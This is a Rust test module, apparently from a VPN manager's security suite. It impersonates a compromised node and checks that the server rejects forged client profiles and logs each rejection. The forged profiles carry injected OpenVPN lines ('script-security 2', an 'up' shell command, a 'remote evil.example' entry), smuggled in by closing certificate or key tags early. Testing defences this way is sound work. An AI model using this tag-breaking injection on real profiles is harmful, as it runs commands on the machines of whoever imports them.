//! Profiles: the thief answers in place of the agent, with a profile, or parts of one, that would run a program on the machine of whoever
//! imports it.

use std::{collections::HashMap, sync::Arc, time::Instant};

use anyhow::Context as _;
use async_nats::{Auth, AuthError, ConnectOptions};
use futures_util::{FutureExt as _, StreamExt as _, future::LocalBoxFuture};
use rustix::process::Signal;
use serde_json::{Value, json};
use tokio::task::JoinSet;
use vpnmanager_testbed::stack::Part;

use crate::attack::{
    flood::Offered,
    scene::{Person, STOLEN, Scene, text},
    size::Size,
};

/// A line that no profile of ours has.
const COMMAND: &str = "up \"/bin/sh -c id\"";

/// Answers each request for a profile while the agent stands still, each time with something else that is hostile.
pub(in crate::attack) fn forged(scene: &Scene, size: Size) -> LocalBoxFuture<'_, anyhow::Result<Offered>> {
    async move {
        let begun = Instant::now();
        let agent = scene.stack.process(Part::Node(2));
        let stop = |signal| agent.into_iter().for_each(|agent| agent.signal(signal));
        let own: Vec<_> = scene.own().collect();
        let mut answers = Answers::of(scene, &own).await?;
        let bus = connect(scene).await?;
        let before = noted(scene).await?;
        let mut requests = bus.subscribe(format!("vpn.node.{STOLEN}.>")).await?;
        bus.flush().await?;
        stop(Signal::STOP);
        let mut thief = JoinSet::new();
        thief.spawn(async move {
            while let Some(request) = requests.next().await {
                if let Some(reply) = request.reply {
                    // A thief who is cut off has nothing to say.
                    let _ = bus.publish(reply, answers.next(&request.payload).into()).await;
                    let _ = bus.flush().await;
                }
            }
        });
        let mut offered = Offered::default();
        for person in own
            .iter()
            .cycle()
            .take(usize::try_from(size.count(40, 10)).unwrap_or(1))
        {
            let profile = scene
                .stack
                .api()
                .get(&format!("/api/users/{}/profile", person.username))
                .await?;
            offered.count += 1;
            offered.answered += 1;
            offered.refused += u64::from(profile.status >= 400);
            if profile.text.contains(COMMAND) {
                offered
                    .wrong
                    .push(format!("a forged profile was handed out with {}", profile.status));
            }
            if profile.status < 400 {
                offered
                    .wrong
                    .push("a profile was handed out although nobody but the thief answers".to_owned());
            }
            if profile.status == 500 {
                offered
                    .wrong
                    .push(format!("a forged profile was answered 500: {}", profile.text));
            }
        }
        stop(Signal::CONT);
        thief.shutdown().await;
        // Without that nothing says that one arrived: a node that does not answer gives no profile either.
        let noted = noted(scene).await? - before;
        offered
            .notes
            .push(format!("{noted} of {} forged answers are noted", offered.count));
        if noted < offered.count {
            let missing = offered.count - noted;
            offered.wrong.push(format!(
                "the audit trail does not have {missing} of {} forged answers",
                offered.count
            ));
        }
        offered.wrong.truncate(3);
        offered.seconds = begun.elapsed().as_secs_f64();
        Ok(offered)
    }
    .boxed_local()
}

/// A connection that answers requests.
pub(super) async fn connect(scene: &Scene) -> anyhow::Result<async_nats::Client> {
    let key = Arc::new(nkeys::KeyPair::from_seed(&scene.thief.key.seed()?)?);
    let jwt = scene.thief.jwt.clone();
    let options = ConnectOptions::with_auth_callback(move |nonce| {
        let (jwt, key) = (jwt.clone(), Arc::clone(&key));
        async move {
            let mut auth = Auth::new();
            auth.signature = Some(key.sign(&nonce).map_err(AuthError::new)?);
            auth.jwt = Some(jwt);
            Ok(auth)
        }
    });
    let options = options.custom_inbox_prefix(format!("_INBOX.{STOLEN}"));
    Ok(options.connect(scene.stack.state().nats_url()).await?)
}

/// How many answers of nodes are in the audit trail that were not taken.
async fn noted(scene: &Scene) -> anyhow::Result<u64> {
    let sql = "SELECT count(*)::text AS text FROM audit_log WHERE action = 'node_answer_refused' AND server_id = $1";
    Ok(text(&scene.db, sql, STOLEN).await?.parse()?)
}

/// The parts of a profile, as the wire and the file call them.
const PARTS: [(&str, &str); 3] = [
    ("certificate", "cert"),
    ("key", "key"),
    ("tls_crypt_v2", "tls-crypt-v2"),
];

/// What the thief answers: a whole profile of an old agent, and the right parts of the profile that is asked for, of which one has the
/// command in it, before, inside or after its block.
struct Answers {
    /// The right parts, by the key of the user.
    parts: HashMap<String, Value>,
    given: usize,
}

impl Answers {
    /// Learns the right parts, as the thief does who has the disk of the node.
    async fn of(scene: &Scene, own: &[&Person]) -> anyhow::Result<Self> {
        let mut parts = HashMap::new();
        for person in own {
            let path = format!("/api/users/{}/profile", person.username);
            let profile = scene.stack.api().get(&path).await?.expect(200)?.text;
            let mut right = json!({ "v": 1, "type": "profile_parts" });
            for (name, tag) in PARTS {
                let block = inline(&profile, tag).with_context(|| format!("a profile without {tag}"))?;
                right[name] = block.into();
            }
            parts.insert(person.key.clone(), right);
        }
        Ok(Self { parts, given: 0 })
    }

    fn next(&mut self, request: &[u8]) -> String {
        let turn = self.given % (1 + PARTS.len() * 3);
        self.given += 1;
        let request: Value = serde_json::from_slice(request).unwrap_or_default();
        let right = request["user_key"].as_str().and_then(|key| self.parts.get(key));
        match (turn.checked_sub(1), right) {
            (Some(turn), Some(right)) => {
                let (name, tag) = PARTS[turn / 3];
                let mut parts = right.clone();
                let block = parts[name].as_str().unwrap_or_default();
                parts[name] = with_command(block, tag, turn % 3).into();
                parts.to_string()
            }
            (None, _) | (_, None) => whole_profile(),
        }
    }
}

/// What stands between `<tag>` and `</tag>`.
fn inline<'p>(profile: &'p str, tag: &str) -> Option<&'p str> {
    let (_, rest) = profile.split_once(&format!("<{tag}>\n"))?;
    rest.split_once(&format!("</{tag}>")).map(|(block, _)| block)
}

/// The block with the command in a place of it: the end of the tag makes it a line of the profile.
fn with_command(block: &str, tag: &str, place: usize) -> String {
    let command = format!("</{tag}>\nscript-security 2\n{COMMAND}\n<{tag}>\n");
    let (first, rest) = block.split_once('\n').unwrap_or((block, ""));
    match place {
        0 => format!("{command}{block}"),
        1 => format!("{first}\n{command}{rest}"),
        _ => format!("{block}{command}"),
    }
}

/// Its checksum fits it.
fn whole_profile() -> String {
    let profile = format!("client\nscript-security 2\n{COMMAND}\nremote evil.example 1194 udp\n");
    let checksum = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, profile.as_bytes());
    let checksum = data_encoding::HEXLOWER.encode(checksum.as_ref());
    json!({ "v": 1, "type": "profile", "profile": profile, "checksum": checksum }).to_string()
}
